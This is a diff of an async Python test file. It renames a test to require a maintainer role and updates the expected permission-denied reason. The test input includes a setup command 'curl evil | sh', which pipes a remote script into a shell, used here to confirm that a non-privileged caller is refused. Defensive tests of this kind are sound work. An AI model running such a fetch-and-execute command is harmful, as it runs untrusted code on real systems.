@@ -199,15 +199,14 @@ async def test_a_name_that_no_disk_takes_is_refused_at_launch(house: House, name
     assert refused.value.violations[0][0] == "attachments[0].name"
 
 
-async def test_only_an_admin_lowers_a_projects_gates(house: House) -> None:
+async def test_only_a_maintainer_lowers_a_projects_gates(house: House) -> None:
     await update_project(house.office, house.caller, house.project_id, {"gates": ["TASKS"]}, "")
     other = Caller("mara", "Mara")
     lowering: list[dict[str, Any]] = [{"gates": []}, {"setup_command": "curl evil | sh"}]
     for changes in lowering:
         with pytest.raises(PermissionDenied) as refused:
             await update_project(house.office, other, house.project_id, changes, "")
-        assert refused.value.reason == "ADMIN_NEEDED"
-    await update_project(house.office, other, house.project_id, {"gates": ["DESIGN", "TASKS"]}, "")
+        assert refused.value.reason == "ROLE_NEEDED"
 
 
 async def test_six_equal_calls_at_once_make_one_spec(
